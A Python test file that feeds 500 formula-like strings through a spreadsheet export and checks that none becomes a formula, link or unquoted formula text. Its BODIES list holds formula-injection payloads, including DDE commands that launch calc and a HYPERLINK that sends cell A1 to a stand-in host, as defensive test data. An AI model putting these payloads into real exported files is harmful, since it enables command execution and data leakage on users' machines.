"""Texts that a spreadsheet would take for a formula leave as text, in every way out."""

import random
from datetime import datetime
from pathlib import Path

from openpyxl import load_workbook

from models.ledgers.issue_verbs import ISSUES
from models.ledgers.issues import Issue
from models.ledgers.units import Level
from models.office import Office, set_up
from models.sheets.exporting import export_sheet
from tests.trials.trial import Asked, Result

TITLE = "500 texts that mean to be formulas: none is one after export"
TEXTS = 500

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "＝",
    "＋",
    "－",
    "＠",
    "#",
    "'=",
    '"=',
    ";=",
)
STARTS += (",=", "%=", "|=", "\u200b=", "\ufeff=", "\u00a0=")
BODIES = (
    *("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.invalid/?"&A1,"x")', "SUM(A1:A9)"),
    *('DDE("cmd";"/C calc";"x")', 'WEBSERVICE("http://example.invalid/")', "A1", "-2+3"),
    *('IMPORTXML("http://example.invalid","//a")', "NOW()", "@SUM(1)", "{1,2}", "Sheet1!A1"),
    *("'[x.xls]a'!b", 'EXEC("calc")', 'MSEXCEL|"\\..\\..\\x"!""', "REF!", "13800000000", "N/A"),
)
"""What may follow: nothing leads anywhere."""


def texts(drawn: random.Random, count: int) -> list[str]:
    """Different from each other."""
    found: dict[str, None] = {}
    while len(found) < count:
        start = "".join(drawn.choice(STARTS) for _ in range(drawn.randint(1, 2)))
        end = drawn.choice(["", " ", "\n", str(len(found))])
        found[f"{start}{drawn.choice(BODIES)}{end}"] = None
    return list(found)


def run(folder: Path, asked: Asked) -> Result:
    result = Result()
    wanted = texts(random.Random(asked.seed), asked.many(TEXTS))
    set_up(folder / "office", "=1+1", Level.UNIT)
    path = folder / "out.xlsx"
    with Office(folder / "office", now=lambda: datetime(2026, 9, 10)) as office:
        issues = []
        for text in wanted:
            issue = office.door.new(Issue, problem=text, aspect="other")
            issues.append(issue)
        office.door.store(*issues)
        held = {issue.problem for issue in Issue.select()}
        export_sheet(office, ISSUES, path)
    book = load_workbook(path)
    cells = [cell for page in book for row in page.iter_rows() for cell in row]
    formulas = [f"{c.coordinate}: {c.value}" for c in cells if c.data_type == "f"]
    links = [c.coordinate for c in cells if c.hyperlink]
    there = {c.value for c in cells if c.data_type == "s"}
    unquoted = [
        c.coordinate
        for c in cells
        if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@") and not c.quotePrefix
    ]
    result.say("texts that mean to be formulas", len(wanted))
    result.none("formulas among the cells", len(formulas))
    result.none("links among the cells", len(links))
    result.none("that turn into one when edited", len(unquoted))
    missing = [text for text in held if text and text not in there]
    result.none("texts that are not there as text", len(missing))
    result.none("other formulas, in names or connections", len(book.defined_names))
    result.details += [*formulas, *unquoted, *missing]
    return result
